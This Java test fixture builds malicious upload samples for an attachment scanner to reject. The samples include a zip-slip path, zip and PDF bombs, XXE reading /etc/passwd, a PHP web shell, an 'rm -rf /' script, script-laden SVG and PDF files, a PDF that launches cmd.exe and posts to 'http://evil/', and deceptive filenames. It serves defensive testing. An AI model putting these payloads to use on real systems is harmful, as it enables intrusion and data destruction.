package org.zhijian.itests.attachments;

import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;
import org.zhijian.itests.http.Scan;

/** What somebody may try to hand in instead of a scan; every file is made here and harmless. */
final class Attacks {
    /** What every scanner takes for a virus, and is none. */
    static final String EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

    private static final List<String> EXTENSIONS = List.of("jpg", "png", "pdf");

    /** @param what the row's name */
    record Attack(String what, Scan file) {
        @Override
        public String toString() {
            return what;
        }
    }

    private final List<Attack> attacks = new ArrayList<>();

    private Attacks() {}

    /** What must be refused, whatever the reason. */
    static List<Attack> refused() {
        Attacks all = new Attacks();
        all.otherKindsOfFiles();
        all.names();
        all.pictures();
        all.documents();
        return all.attacks;
    }

    private void add(String what, String name, byte[] content) {
        attacks.add(new Attack(what, new Scan(name, "image/jpeg", content)));
    }

    /** Each under every extension that the slot takes, and under its own. */
    private void disguised(String what, String extension, byte[] content) {
        add(what, "file." + extension, content);
        EXTENSIONS.forEach(taken -> add(what + " as " + taken, "file." + taken, content));
    }

    private void otherKindsOfFiles() {
        disguised("program of Windows", "exe", ascii("MZ\u0090\0\3\0\0\0" + "x".repeat(500)));
        disguised("program of Linux", "elf", ascii("\u007fELF\2\1\1" + "\0".repeat(500)));
        disguised("page with a script", "html", ascii("<!DOCTYPE html><html><script>alert(1)</script></html>"));
        disguised(
                "drawing with a script",
                "svg",
                ascii("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"));
        disguised("archive that climbs out of its folder", "zip", zip("../../../etc/evil.sh", new byte[10]));
        disguised("archive that grows a thousandfold", "zip", zip("zeros", new byte[20 << 20]));
        disguised("archive in an archive", "zip", zip("inner.zip", zip("zeros", new byte[1 << 20])));
        disguised(
                "text with an entity of a file",
                "xml",
                ascii("<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>"));
        disguised(
                "text that laughs a billion times",
                "xml",
                ascii("<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'ha'><!ENTITY c '&b;&b;&b;&b;'>]><a>&c;</a>"));
        disguised("document with a macro", "docm", zip("word/vbaProject.bin", ascii("Sub AutoOpen()")));
        disguised("file of the virus scanners", "com", ascii(EICAR));
        disguised("nothing at all", "txt", new byte[0]);
        disguised("script of a shell", "sh", ascii("#!/bin/sh\nrm -rf /\n"));
        disguised("script of a server", "php", ascii("<?php system($_GET['c']); ?>"));
        disguised("picture of a kind that is not taken", "gif", ascii("GIF89a" + "\1".repeat(200)));
    }

    private void names() {
        byte[] picture = Papers.sealed("1.jpg", 900).content();
        add("two extensions", "扫描件.jpg.exe", picture);
        add("no extension", "扫描件", picture);
        add("a dot at the end", "扫描件.jpg.", picture);
        add("a name that reads backwards", "扫描件\u202Egpj.exe", picture);
        add("a name that reads backwards and ends well", "exe\u202Eannex.jpg", picture);
        add("a character nobody sees", "扫描\u200B件.jpg", picture);
        add("only an extension of a folder", "..", picture);
        add("a stream of another file", "扫描件.jpg::$DATA", picture);
        add("a name of three hundred letters", "长".repeat(300) + ".jpg", picture);
    }

    private void pictures() {
        byte[] jpeg = Papers.sealed("1.jpg", 901).content();
        byte[] png = png(60, 40);
        add("picture of 65000 by 65000 points", "flood.jpg", sized(jpeg, 65_000, 65_000));
        add("PNG of 60000 by 60000 points", "flood.png", sizedPng(60_000, 60_000));
        add("PNG of one endless row", "row.png", sizedPng(90_000_000, 1));
        add("archive behind a picture", "gifar.jpg", join(jpeg, zip("Evil.class", new byte[10])));
        add("archive behind a PNG", "gifar.png", join(png, zip("Evil.class", new byte[10])));
        add("page behind a picture", "tail.jpg", join(jpeg, ascii("<html><script>alert(1)</script>")));
        add("script in the camera's data", "exif.jpg", commented(jpeg, "<?php system('id'); ?>"));
        add("page in the camera's data", "exif2.jpg", commented(jpeg, "<SCRIPT src=//evil>"));
        add("document inside a picture", "both.jpg", commented(jpeg, "%PDF-1.4"));
        add("picture that ends after its head", "cut.jpg", Arrays.copyOf(jpeg, 150));
        add("PNG that ends early", "cut.png", Arrays.copyOf(png, png.length - 14));
        byte[] garbled = png.clone();
        Arrays.fill(garbled, 41, garbled.length - 16, (byte) 0x55);
        add("PNG whose points are nonsense", "garbled.png", garbled);
        add("picture under another's extension", "a.png", jpeg);
        add("PNG under another's extension", "a.jpg", png);
        add("picture as a document", "a.pdf", png);
    }

    private void documents() {
        add("document that starts a program", "launch.pdf", pdf("<< /S /Launch /F (cmd.exe) >>", ""));
        add("document with a script", "script.pdf", pdf("<< /S /JavaScript /JS (app.alert\\(1\\)) >>", ""));
        add("document with a script under another spelling", "hidden.pdf", pdf("<< /S /J#61vaScript /JS (1) >>", ""));
        add("document with a file in it", "inside.pdf", pdf("<< /Type /EmbeddedFile >>", ""));
        add("document with a film in it", "film.pdf", pdf("<< /Subtype /RichMedia >>", ""));
        add("document that sends forms", "send.pdf", pdf("<< /S /SubmitForm /F (http://evil/) >>", ""));
        add("document that is locked", "locked.pdf", pdf("<< >>", " /Encrypt 4 0 R"));
        add("document without an end", "endless.pdf", Arrays.copyOf(pdf("<< >>", ""), 120));
        add("document behind a page", "page.pdf", join(ascii("<html><script>1</script>"), pdf("<< >>", "")));
        add("document with an archive behind it", "zip.pdf", join(pdf("<< >>", ""), zip("Evil.class", new byte[5])));
        add(
                "document whose script is compressed",
                "deep.pdf",
                objects("<< /S /JavaScript >>".getBytes(StandardCharsets.US_ASCII)));
        add("document whose objects grow without end", "bomb.pdf", objects(new byte[40 << 20]));
    }

    private static byte[] pdf(String object, String trailer) {
        String document = new String(
                Papers.document(List.of(
                        "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
                        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
                        object)),
                StandardCharsets.ISO_8859_1);
        return ascii(document.replace(" /Root 1 0 R", trailer + " /Root 1 0 R"));
    }

    private static byte[] objects(byte[] content) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (DeflaterOutputStream target = new DeflaterOutputStream(bytes, new Deflater(Deflater.BEST_COMPRESSION))) {
            target.write(content);
        } catch (IOException impossible) {
            throw new UncheckedIOException(impossible);
        }
        String stream = new String(bytes.toByteArray(), StandardCharsets.ISO_8859_1);
        return pdf(
                "<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length " + stream.length() + " >>\nstream\n"
                        + stream + "\nendstream",
                "");
    }

    private static byte[] zip(String name, byte[] content) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            zip.putNextEntry(new ZipEntry(name));
            zip.write(content);
        } catch (IOException impossible) {
            throw new UncheckedIOException(impossible);
        }
        return bytes.toByteArray();
    }

    private static byte[] png(int width, int height) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try {
            ImageIO.write(new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB), "png", bytes);
        } catch (IOException impossible) {
            throw new UncheckedIOException(impossible);
        }
        return bytes.toByteArray();
    }

    private static byte[] sizedPng(int width, int height) {
        byte[] png = png(8, 8);
        ByteBuffer header = ByteBuffer.wrap(png).putInt(16, width).putInt(20, height);
        CRC32 crc = new CRC32();
        crc.update(png, 12, 17);
        header.putInt(29, (int) crc.getValue());
        return png;
    }

    private static byte[] sized(byte[] jpeg, int width, int height) {
        byte[] changed = jpeg.clone();
        for (int i = 2; i < changed.length; i++) {
            if (changed[i] == (byte) 0xFF && changed[i + 1] == (byte) 0xC0) {
                ByteBuffer.wrap(changed).putShort(i + 5, (short) height).putShort(i + 7, (short) width);
                return changed;
            }
        }
        throw new IllegalStateException("no frame");
    }

    /** With a comment as cameras write them. */
    static byte[] commented(byte[] jpeg, String comment) {
        byte[] text = ascii(comment);
        ByteBuffer segment = ByteBuffer.allocate(4 + text.length)
                .putShort((short) 0xFFFE)
                .putShort((short) (2 + text.length))
                .put(text);
        return join(Arrays.copyOf(jpeg, 2), segment.array(), Arrays.copyOfRange(jpeg, 2, jpeg.length));
    }

    private static byte[] ascii(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }

    private static byte[] join(byte[]... parts) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            bytes.writeBytes(part);
        }
        return bytes.toByteArray();
    }
}
